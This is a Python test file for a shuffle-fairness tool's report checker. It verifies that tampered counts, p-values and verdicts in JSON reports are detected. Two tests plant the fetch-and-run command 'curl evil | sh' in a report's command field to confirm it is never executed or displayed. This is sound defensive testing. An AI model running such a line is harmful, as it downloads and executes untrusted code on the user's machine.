"""Checking reports: an untouched one agrees with its counts, and every tampering of a list is found."""
import copy
import json
import shlex

from program import InFolder, formats, run, words_of
from schemas import REPORT_SCHEMA


def member(report, pointer):
    """The innermost container of a JSON pointer, and the key in it."""
    steps = pointer.split("/")[1:]
    for step in steps[:-1]:
        report = report[int(step) if isinstance(report, list) else step]
    return report, int(steps[-1]) if isinstance(report, list) else steps[-1]


def certified(*arguments):
    return json.loads(run("certify", *arguments, "--seed", "1", "--json", "-").stdout)


def applied(result):
    return len({test["test"] for test in result["tests"] if test["applied"] and not test.get("same_as")})


def deal_each_deck_twice(evidence):
    """Half of all pairs become equal, in the repeats as in the relative permutations: the others turn the deck or, where permutations are
    counted, are all other permutations equally often."""
    pairs, successive = evidence["repeats"]["pairs"], evidence["successive"]
    equal = evidence["repeats"]["equal"] = pairs // 2
    if successive["permutations"]:
        others = len(successive["permutations"]) - 1
        successive["permutations"] = [equal] + [(pairs - equal) // others] * others
        return
    cards = len(successive["positions"])  # a prime: then any turn is one cycle, and even
    turned = (pairs - equal) // (cards - 1)
    equal = evidence["repeats"]["equal"] = pairs - turned * (cards - 1)
    birthday = evidence["birthday"]
    birthday["distinct"] = birthday["kept"] - equal
    birthday["again"] = min(equal, birthday["distinct"])
    successive["positions"] = [[equal if card == place else turned for card in range(cards)] for place in range(cards)]
    successive["fixed_points"] = [pairs - equal] + [0] * (cards - 1) + [equal]
    successive["cycles"] = [0, pairs - equal] + [0] * (cards - 2) + [equal]
    successive["parity"] = [pairs, 0]

# Which report, where in it, and what is done to what stands there.
TAMPERINGS = [
    ("small", "/results/0/evidence/permutations/3", lambda count: count + 1),
    ("small", "/results/0/evidence/permutations/23", lambda count: 0),
    ("small", "/results/0/positions/1/2", lambda count: count - 1),
    ("small", "/results/0/evidence/repeats/equal", lambda count: count + 1),
    ("small", "/results/0/evidence/repeats/pairs", lambda count: count + 1),
    ("small", "/results/2/subsets/0", lambda count: count + 1),
    ("small", "/results/0/tests/0/statistic", lambda value: value * (1 + 1e-6)),
    ("small", "/results/0/tests/0/p_value", lambda value: value * (1 + 1e-6)),
    ("small", "/results/1/tests/17/log10_p", lambda value: value / 2),
    ("small", "/results/1/tests/17/adjusted_p", lambda value: value + 1e-3),
    ("small", "/results/1/tests/17/rejected", lambda value: False),
    ("small", "/results/0/tests/1/df", lambda value: value + 1),
    ("small", "/results/0/tests/1/name", lambda value: "permutations"),
    ("small", "/results/0/tests/2/applied", lambda value: False),
    ("small", "/results/0/verdict", lambda value: "biased"),
    ("small", "/results/1/verdict", lambda value: "fair"),
    ("small", "/results/1/sentence", lambda value: value.replace("Biased", "Fair")),
    ("small", "/results/0/evidence/trials", lambda value: value + 1),
    ("small", "/results/0/look", lambda value: value + 1),
    ("small", "/results/0/alpha_at_look", lambda value: value * 2),
    ("small", "/results/0/family", lambda value: value - 1),
    ("small", "/results/0/bias/chi_square_distance", lambda value: value + 1e-9),
    ("small", "/results/0/bias/tv_upper", lambda value: value * 0.99),
    ("small", "/results/0/bias/tv_lower", lambda value: None),
    ("small", "/results/0/bias/confidence", lambda value: value - 1e-6),
    ("small", "/results/0/bias/covers", lambda value: "positions"),
    ("small", "/results/1/components/0/share", lambda value: value / 2),
    ("small", "/results/1/components/1/chi_square_distance", lambda value: value + 1e-6),
    ("small", "/results/1/worst/0/card", lambda value: 3 - value),
    ("small", "/results/1/diagnosis", lambda value: None),
    ("small", "/results/1/diagnosis/fits/0/mistakes/0/target", lambda value: "sattolo:n=4"),
    ("small", "/results/1/diagnosis/distributions_fitting", lambda value: value + 1),
    ("small", "/results/3/evidence/invalid/count", lambda value: value - 1),
    ("small", "/results/3/evidence/invalid/count", lambda value: 0),
    ("small", "/results/3/evidence/invalid/witnesses/0/permutation", lambda value: [6, 5, 4, 3, 2, 1, 0]),
    ("small", "/results/3/evidence/bet", lambda bet: {"share": 0.5, "hits": 0, "judged": 0}),
    ("small", "/results/0/blind_spots/0", lambda value: "none"),
    ("small", "/plan/targets/0/target/n", lambda value: 5),
    ("small", "/plan/targets/2/target/marked", lambda value: 3),
    ("small", "/controls/0/verdict", lambda value: "biased"),
    ("small", "/controls/0/evidence/permutations/0", lambda value: value + 10),
    ("small", "/verdict", lambda value: "fair"),
    ("small", "/note", lambda value: "all is well"),
    ("small", "/plan/budget/alpha", lambda value: value * 10),
    ("small", "/plan/budget/confidence", lambda value: 0.99),
    ("small", "/plan/budget/tolerance", lambda value: 0.06),
    ("small", "/plan/budget/fixed_trials", lambda value: True),
    ("large", "/results/1/evidence/positions/51/51", lambda value: value + 1),
    ("large", "/results/0/tests/2/p_value", lambda value: value / 2),
    ("large", "/results/0/bias/tv_upper", lambda value: value / 2),
    ("large", "/results/0/trials_to_decide", lambda value: 1),
    ("large", "/results/0/decided_if", lambda value: "biased"),
    ("large", "/results/1/bias_of_whole_deck/tv_lower", lambda value: value / 2),
    ("large", "/results/1/bias_of_whole_deck/covers", lambda value: "arrangements"),
    ("families", "/results/0/families/0/tv_upper", lambda value: value / 2),
    ("families", "/results/0/families/1/farthest", lambda value: "cards 0 and 1x"),
    ("families", "/results/0/families/2/asked", lambda value: not value),
    ("families", "/results/0/families/0/trials_for_tolerance", lambda value: value / 2),
    ("families", "/results/0/bias/covers", lambda value: "cards"),
    ("families", "/results/0/power/found/0/trials", lambda value: value / 2),
    ("families", "/results/0/power/missed/0/target", lambda value: "sattolo:n=13"),
    ("large", "/plan/budget/max_trials", lambda value: 200000),
]


class Check(InFolder):
    @classmethod
    def setUpClass(cls):
        cls.small = certified("durstenfeld:n=4", "naive-swap:n=4", "naive-swap:n=6,marked=2", "deal-hands:slip=1,n=7",
                              "--max-trials", "100000", "--tolerance", "0.05", "--controls", "--until-decided")
        cls.families = certified("durstenfeld:n=13", "--max-trials", "20000")
        cls.large = certified("durstenfeld:n=12", "naive-swap:n=52", "--max-trials", "100000")
        cls.hands = certified("durstenfeld:n=25", "--trials", "300000", "--certify", "flop,top-five",
                              "--tolerance", "0.2")
        cls.five = certified("durstenfeld:n=5", "naive-swap:n=5", "--max-trials", "100000", "--tolerance", "0.05",
                             "--until-decided")

    def check(self, report):
        path = self.path / "report.json"
        path.write_text(json.dumps(report))
        return run("check", str(path))

    def assert_agrees(self, report):
        done = self.check(report)
        self.assertEqual(done.returncode, 0, done)
        self.assertNotIn("WRONG", done.stdout)
        self.assertEqual(done.stderr, "")
        for target in report["results"] + report["controls"]:
            self.assertIn(f"agrees  {target['name']}: ", done.stdout)

    def assert_found(self, report, *says):
        done = self.check(report)
        self.assertEqual(done.returncode, 1, done)
        self.assertEqual(done.stderr, "")
        for part in says:
            self.assertIn(part, done.stdout)

    def test_untouched_reports_agree_with_their_counts(self):
        self.assert_agrees(self.small)
        self.assert_agrees(self.large)
        self.assert_agrees(self.families)

    def test_the_largest_decks_agree_with_their_counts(self):
        for settings in (["--n", "128"], ["--n", "66", "--pairs"]):
            with self.subTest(settings=settings):
                report = certified("durstenfeld", *settings, "--trials", "600")
                REPORT_SCHEMA.validate(report)
                self.assert_agrees(report)

    def test_tables_that_bet_families_ask_for_agree_and_their_tampering_is_found(self):
        REPORT_SCHEMA.validate(self.hands)
        done = self.check(self.hands)
        self.assertEqual((done.returncode, done.stderr), (0, ""))
        self.assertIn("how often each set of the table top-five came", words_of(done.stdout))
        evidence = "/results/0/evidence"

        def one_set_more(histogram):
            return [[count, cells + 1] if index == 0 else [count, cells]
                    for index, (count, cells) in enumerate(histogram)]

        def wider(histogram):
            """As many trials in as many cells, less evenly."""
            counts = dict(map(tuple, histogram))
            some = sorted(counts)[len(counts) // 2]
            counts[some] -= 2
            for other in (some - 1, some + 1):
                counts[other] = counts.get(other, 0) + 1
            return [[count, cells] for count, cells in sorted(counts.items()) if cells > 0]
        changes = [
            ("/table_histograms/top-five", one_set_more, f"{evidence}/table_histograms/top-five: adds up to "),
            ("/table_histograms/top-five", wider, "/results/0/families/5/statistic: the report says "),
            ("/table_histograms", lambda histograms: {}, f"{evidence}/tables/top-five: is missing"),
            ("/tables/top-three", lambda cells: cells[:-1], f"{evidence}/tables/top-three: has 2,299 counts"),
            ("/tables/top-three", lambda cells: [cells[0] - 1, cells[1] + 1, *cells[2:]],
             f"{evidence}/tables/top-three: has card "),
            ("/tables/top-two", lambda cells: [cells[0] - 1, cells[1] + 1, *cells[2:]],
             f"{evidence}/tables/top-two: has card "),
        ]
        for pointer, change, says in changes:
            with self.subTest(pointer=pointer, says=says):
                report = copy.deepcopy(self.hands)
                holder, key = member(report, evidence + pointer)
                holder[key] = change(holder[key])
                self.assert_found(report, says)
        report = copy.deepcopy(self.families)
        report["results"][0]["evidence"]["tables"]["top-three"] = self.hands["results"][0]["evidence"]["tables"]["top-three"]
        self.assert_found(report, f"{evidence}/tables/top-three: is there, where no bet family that is asked reads it")

    def test_a_recorded_log_agrees_with_its_counts(self):
        log = self.path / "decks.log"
        log.write_text("0 1 2\n2 1 0\n1 0 2\n" * 2000 + "0 0 2\n")
        report = certified("--log", str(log), "--n", "3")
        self.assertEqual(report["results"][0]["verdict"], "invalid")
        self.assert_agrees(report)

    def test_a_recording_of_which_not_everything_was_read_agrees_with_its_counts(self):
        log = self.path / "decks.log"
        log.write_text("0 1 2\n2 1 0\n1 0 2\n" * 2000)
        report = certified("--log", str(log), "--n", "3", "--trials", "5000")
        self.assertEqual(len(report["results"][0]["blind_spots"]), 3)
        self.assert_agrees(report)
        report["results"][0]["blind_spots"][2] += "?"
        self.assert_found(report, "/results/0/blind_spots/2: the report says ")

    def test_a_child_that_fails_after_a_row_that_is_no_permutation_agrees_with_its_counts(self):
        report = certified("--exec", "echo 0 0 1", "--n", "3", "--max-trials", "100000")
        self.assertEqual((report["results"][0]["verdict"], report["results"][0]["evidence"]["trials"]), ("invalid", 1))
        self.assert_agrees(report)

    def test_nothing_that_a_report_names_is_run_opened_or_loaded(self):
        touched = self.path / "touched"
        for kind, place in (("exec", f"touch {touched}"), ("plugin", str(self.path / "none.so")),
                            ("log", str(self.path / "none.log")), ("stdin", "standard input")):
            report = copy.deepcopy(self.small)
            report["plan"]["targets"][0]["target"].update(kind=kind, shuffle=place)
            report["command"] = (f"fairshuffle certify --{kind}" + (f" '{place}'" if kind != "stdin" else "") +
                                 " --n 4 --max-trials 100000 --tolerance 0.05 --controls --seed 1")
            done = self.check(report)
            self.assertEqual((done.returncode, done.stderr), (1, ""))
            self.assertNotIn("cannot", done.stdout)
        self.assertFalse(touched.exists())

    def test_what_the_command_did_not_ask_for_is_found(self):
        changes = [
            ("/plan/tests/0", lambda name: "permutation", "/plan/tests/0: is the name of no test"),
            ("/plan/certify/0", lambda name: "card", "/plan/certify/0: is the name of no bet family"),
            ("/plan/certify/1", lambda name: "cards", "/plan/certify/1: is /plan/certify/0 again"),
            ("/plan/tests/1", lambda name: "permutations", "/plan/tests/1: is /plan/tests/0 again"),
            ("/plan/targets/0/name", lambda name: "sattolo:n=4",
             '/plan/targets/0/target/shuffle: the report says "durstenfeld", its name says "sattolo"'),
        ]
        for pointer, change, says in changes:
            with self.subTest(says=says):
                report = copy.deepcopy(self.small)
                container, key = member(report, pointer)
                container[key] = change(container[key])
                self.assert_found(report, f"    {says}" if says.startswith("/") else says)

    def test_the_command_is_an_echo_only(self):
        for command in ("make fair", "", "fairshuffle certify sattolo --n 5 --seed 2"):
            report = copy.deepcopy(self.small)
            report["command"] = command
            self.assert_agrees(report)

    def test_counts_that_another_target_gave_are_called_so(self):
        report = copy.deepcopy(self.five)
        targets, results = report["plan"]["targets"], report["results"]
        targets[0], targets[1] = targets[1], targets[0]
        for target, result in zip(targets, results):
            result["name"] = target["name"]
        self.assert_found(report, "/results/0/evidence/permutations: cannot come from naive-swap:n=5, by its exact distribution (p",
                          "cannot come from durstenfeld:n=5, which is fair, by the test e-value (p")
        # Of what it cannot give at all no p-value need be told.
        report = certified("durstenfeld:n=4", "--trials", "20000", "--tolerance", "0.05")
        planned = certified("sattolo:n=4", "--trials", "20000", "--tolerance", "0.05")["plan"]["targets"]
        report["plan"]["targets"], report["results"][0]["name"] = planned, planned[0]["name"]
        self.assert_found(report, "cannot come from sattolo:n=4, by its exact distribution (what it cannot give came)")

    def test_counts_of_large_decks_that_another_target_gave_are_called_so(self):
        for given, claimed, says in (
                ("durstenfeld:n=9", "sattolo:n=9", "/results/0/evidence/permutations: cannot come from sattolo:n=9, by its exact distribution"),
                ("durstenfeld:n=52", "naive-swap:n=52", "/results/0/evidence/positions: cannot come from naive-swap:n=52, by "),
                ("naive-swap:n=52,source=mt19937,seeding=per-run", "durstenfeld:n=52,source=mt19937,seeding=per-run",
                 "cannot come from durstenfeld:n=52,source=mt19937,seeding=per-run, ")):
            with self.subTest(claimed=claimed):
                report = certified(given, "--trials", "20000")
                planned = certified(claimed, "--trials", "2400")["plan"]["targets"]
                report["plan"]["targets"], report["results"][0]["name"] = planned, planned[0]["name"]
                self.assert_found(report, says)

    def test_a_target_that_could_not_be_run_is_a_report_without_a_verdict(self):
        report = certified("sattolo:n=3", "--exec", "echo 0 1 2", "--n", "3", "--max-trials", "100000")
        REPORT_SCHEMA.validate(report)
        self.assertIsNone(report["verdict"])
        self.assert_agrees(report)
        report["results"][1]["verdict"] = "fair"
        self.assert_found(report, "/results/1/evidence/error: is there beside a verdict")

    def test_the_command_that_makes_the_counts_again_is_told(self):
        path = self.path / "my report.json"
        path.write_text(json.dumps(self.small))
        done = run("check", str(path))
        for arguments in (("durstenfeld:n=4", "--exec", "echo 0 1 2", "--n", "3", "--trials", "1000", "--alpha", "1e-7"),
                          ("naive-swap:n=13", "--bet", "cards=0,places=0-1", "--tests", "positions,bets", "--slots", "2^20", "--controls",
                           "--max-trials", "20000"), ("sattolo:n=3",)):
            report = certified(*arguments)
            told = self.check({**report, "command": "curl evil | sh"}).stdout.splitlines()[-1]
            self.assertNotIn("--job", told)
            again = json.loads(run(*shlex.split(told)[1:], "--json", "-").stdout)
            for each in ("plan", "results", "controls"):
                self.assertEqual(again[each], report[each])
        # Where no line says all of the plan, the report itself is the job.
        labelled = copy.deepcopy(self.small)
        labelled["plan"]["targets"][0]["label"] = "ours"
        labelled["results"][0]["name"] = '"ours" durstenfeld:n=4'
        path.write_text(json.dumps(labelled))
        done = run("check", str(path))
        self.assertTrue(done.stdout.endswith(f"must come out again with:\nfairshuffle certify --job '{path}'\n"), done.stdout)
        again = json.loads(run("certify", "--job", str(path), "--json", "-").stdout)
        for each in ("plan", "results", "controls"):
            self.assertEqual(again[each], labelled[each])

    def test_what_another_run_would_touch_is_told_before_the_command(self):
        log = self.path / "a log.txt"
        log.write_text("0 1 2\n2 1 0\n" * 500)
        report = certified("sattolo:n=3", "--exec", "echo 0 1 2; : {trials}", "--log", str(log), "--n", "3", "--trials", "1000")
        lines = self.check(report).stdout.splitlines()
        self.assertEqual(lines[-3], "That they came from these targets it cannot prove. Another run would start "
                                    f"'echo 0 1 2; : {{trials}}', read '{log}'.")
        self.assertEqual(lines[-2], "The same counts must come out again with:")
        self.assertEqual(shlex.split(lines[-1])[:7], ["fairshuffle", "certify", "sattolo:n=3", "--exec", "echo 0 1 2; : {trials}",
                                                      "--log", str(log)])
        self.assertEqual(shlex.split(lines[-1])[7:], ["--n", "3", "--trials", "1000", "--seed", "1"])

    def test_a_command_in_a_report_is_data_and_never_shown(self):
        report = certified("sattolo:n=3", "--trials", "1000")
        report["command"] = "fairshuffle certify sattolo --n 3; curl evil | sh"
        path = self.path / "report.json"
        path.write_text(json.dumps(report))
        for arguments in ([], *(["--format", name] for name in formats())):
            drawn = run("report", str(path), *arguments).stdout.replace("<wbr>", "")
            self.assertNotIn("curl", drawn)
            if not arguments or arguments[1] in ("html", "junit", "markdown"):
                self.assertIn("fairshuffle certify sattolo:n=3 --trials 1000 --seed 1", drawn)
        self.assertNotIn("curl", run("check", str(path)).stdout)

    def test_no_more_is_said_to_be_recomputed_than_was(self):
        done = self.check(self.small)
        tests = applied(self.small["results"][0])
        self.assertIn(f"agrees  durstenfeld:n=4: recomputed verdict, bounds and {tests} tests; "
                      "taken on trust: which bet was chosen\n", done.stdout)
        self.assertIn("agrees  deal-hands:slip=1,n=7: recomputed verdict and ", done.stdout)
        self.assertIn("\nThe report says what its evidence says, but for what is taken on trust.\n", done.stdout)
        one_card = certified("durstenfeld:n=1", "--max-trials", "20000")
        done = self.check(one_card)
        self.assertIn("agrees  durstenfeld:n=1: recomputed verdict, bounds and 0 tests", done.stdout)

    def test_linked_trials_are_found_by_the_repeats_even_where_their_test_was_left_out(self):
        for target, tests in (("durstenfeld:n=11", "positions"), ("durstenfeld:n=4", "permutations")):
            with self.subTest(target=target):
                report = certified(target, "--tests", tests, "--trials", "20000")
                self.assert_agrees(report)
                deal_each_deck_twice(report["results"][0]["evidence"])
                self.assert_found(report, "/results/0/bias/tv_upper")

    def test_a_large_deck_is_judged_whole(self):
        done = self.check(self.large)
        for result in self.large["results"]:
            self.assertGreaterEqual(applied(result), 8)
            self.assertIn(f"agrees  {result['name']}: recomputed verdict, bounds and {applied(result)} tests; "
                          "taken on trust: which bet was chosen", done.stdout)
        self.assertIn("\nTaken on trust for the whole run: the writer's version (", done.stdout)
        self.assertIn(", the environment, and that this plan was asked for (hand its job file over with --job).\n",
                      done.stdout)
        for table, says in (("neighbours", "in column 1"), ("fixed_points", "adds up to"), ("cycles", "adds up to"),
                            ("parity", "adds up to")):
            report = copy.deepcopy(self.large)
            counts = report["results"][0]["evidence"][table]
            (counts[3] if table == "neighbours" else counts)[1] += 1
            self.assert_found(report, f"/results/0/evidence/{table}", says)

    def test_permutations_counted_by_a_histogram_are_judged_whole(self):
        report = certified("naive-swap:n=11", "--tolerance", "0.05", "--max-trials", "2e8")
        self.assertGreater(len(report["results"][0]["evidence"]["permutation_histogram"]), 0)
        self.assert_agrees(report)
        report["results"][0]["evidence"]["permutation_histogram"][0][1] += 1
        self.assert_found(report, "/results/0/evidence/permutation_histogram: adds up to ")
        report["plan"]["targets"][0]["target"]["n"] = 22
        self.assert_found(report, "/results/0/evidence/permutation_histogram: is of permutations, which no run counts of 22 cards")

    def test_every_single_tampering_is_found_where_it_was_made(self):
        # The last of these: what finds naive-swap within the few trials of the first look.
        found = self.small["results"][1]
        self.assertEqual((found["tests"][17]["name"], found["found_by"]), ("e-value", "e-value"))
        for name, pointer, change in TAMPERINGS:
            with self.subTest(pointer=pointer):
                report = copy.deepcopy(getattr(self, name))
                container, key = member(report, pointer)
                before = container[key]
                container[key] = change(before)
                self.assertNotEqual(container[key], before)
                done = self.check(report)
                self.assertEqual(done.returncode, 1, done.stdout + done.stderr)
                self.assertIn("WRONG", done.stdout)
                if not pointer.startswith(("/plan/budget", "/plan/seed", "/command")):
                    target = "/".join(pointer.split("/")[:3])
                    self.assertIn(f"    {target}", done.stdout)

    def test_the_place_and_both_values_are_told(self):
        report = copy.deepcopy(self.small)
        report["results"][1]["tests"][0]["p_value"] = 0.5
        self.assert_found(report, "/results/1/tests/0/p_value: the report says 0.5, its evidence says ")
        report = copy.deepcopy(self.small)
        report["results"][0]["evidence"]["permutations"][5] += 1
        self.assert_found(report, "/results/0/evidence/permutations: adds up to ", "are due")

    def test_a_missing_cell_or_test_is_found(self):
        report = copy.deepcopy(self.small)
        del report["results"][0]["evidence"]["permutations"][-1]
        self.assert_found(report, "/results/0/evidence/permutations: has 23 counts, where 24 are due")
        report = copy.deepcopy(self.large)
        del report["results"][0]["evidence"]["positions"][3][11]
        self.assert_found(report, "/results/0/evidence/positions/3: has 11 counts, where 12 are due")
        report = copy.deepcopy(self.small)
        del report["results"][0]["tests"][0]
        self.assert_found(report, "/results/0/tests")

    def test_counts_moved_where_all_sums_stay_are_found(self):
        # Of the two positions on top hole cards are counted, too, which tell the cards that lay there.
        for row, found in ((2, "/results/1/tests/1/statistic"), (1, "/results/1/evidence/tables/top-two: has card 8 ")):
            report = copy.deepcopy(self.large)
            positions = report["results"][1]["evidence"]["positions"]
            for position, card, more in ((row, 8, 1), (row + 1, 9, 1), (row, 9, -1), (row + 1, 8, -1)):
                positions[position][card] += more
            self.assert_found(report, found)
        report = copy.deepcopy(self.small)
        permutations = report["results"][0]["evidence"]["permutations"]
        permutations[0], permutations[1] = permutations[0] + 1, permutations[1] - 1
        self.assert_found(report, "/results/0/tests/0/statistic")

    def test_a_bet_that_the_counts_do_not_allow_is_found(self):
        for report, result in ((self.small, 0), (self.large, 0), (self.large, 1)):
            report = copy.deepcopy(report)
            bet = report["results"][result]["evidence"]["bet"]
            bet.update(share=0.25, hits=bet["judged"])
            self.assert_found(report, f"/results/{result}/evidence/bet/hits: is ",
                              "which by the counts no bet of its share can have")
        report = copy.deepcopy(self.small)
        report["results"][0]["evidence"]["bet"]["share"] = 0.3
        self.assert_found(report, "/results/0/evidence/bet/share: is 0.3, which no set of the 24 permutations has")

    def test_what_is_no_report_exits_2(self):
        path = self.path / "broken.json"
        self.refused("check", str(path), says="cannot read the report")
        path.write_text("{}")
        self.refused("check", str(path), says="/schema_version")
        path.write_text("{")
        self.refused("check", str(path), says="parse error")
        report = copy.deepcopy(self.small)
        report["results"][0]["verdict"] = "perfect"
        path.write_text(json.dumps(report))
        self.refused("check", str(path), says="/results/0/verdict")
